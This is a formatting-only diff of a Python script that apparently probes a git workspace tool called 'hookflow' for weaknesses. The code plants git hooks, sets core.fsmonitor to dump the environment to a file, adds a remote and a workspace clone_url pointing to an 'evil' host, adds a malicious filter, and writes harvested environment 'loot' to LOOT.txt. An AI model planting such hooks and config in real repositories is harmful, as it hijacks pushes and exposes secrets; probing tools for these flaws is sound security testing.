@@ -51,21 +51,43 @@ def main() -> int:
     tries = [
         attempt("pre-push hook", lambda: (git / "hooks" / "pre-push").write_text(hook)),
         attempt("post-commit hook", lambda: (git / "hooks" / "post-commit").write_text(hook)),
-        attempt("fsmonitor", lambda: subprocess.run(
-            ["git", "config", "core.fsmonitor", "env > FSMONITOR_RAN.txt; false"],
-            check=True, capture_output=True)),
-        attempt("origin", lambda: subprocess.run(
-            ["git", "remote", "add", "origin", evil], check=True, capture_output=True)),
-        attempt("state", lambda: (git / "hookflow-workspace.json").write_text(
-            json.dumps({"clone_url": evil, "branch": "main", "base_sha": "0" * 40,
-                        "base_branch": "main"}))),
+        attempt(
+            "fsmonitor",
+            lambda: subprocess.run(
+                ["git", "config", "core.fsmonitor", "env > FSMONITOR_RAN.txt; false"],
+                check=True,
+                capture_output=True,
+            ),
+        ),
+        attempt(
+            "origin",
+            lambda: subprocess.run(
+                ["git", "remote", "add", "origin", evil], check=True, capture_output=True
+            ),
+        ),
+        attempt(
+            "state",
+            lambda: (git / "hookflow-workspace.json").write_text(
+                json.dumps(
+                    {
+                        "clone_url": evil,
+                        "branch": "main",
+                        "base_sha": "0" * 40,
+                        "base_branch": "main",
+                    }
+                )
+            ),
+        ),
         attempt("filter", lambda: Path(".gitattributes").write_text("* filter=evil\n")),
     ]
     report = json.dumps({"tries": tries, "loot": loot}, indent=1)
     Path("LOOT.txt").write_text(report)
     print(report, file=sys.stderr)
-    print(json.dumps({"tries": tries, "procs": sum(k.startswith("environ:") for k in loot),
-                      "loot": report}))
+    print(
+        json.dumps(
+            {"tries": tries, "procs": sum(k.startswith("environ:") for k in loot), "loot": report}
+        )
+    )
     return 0
 
 
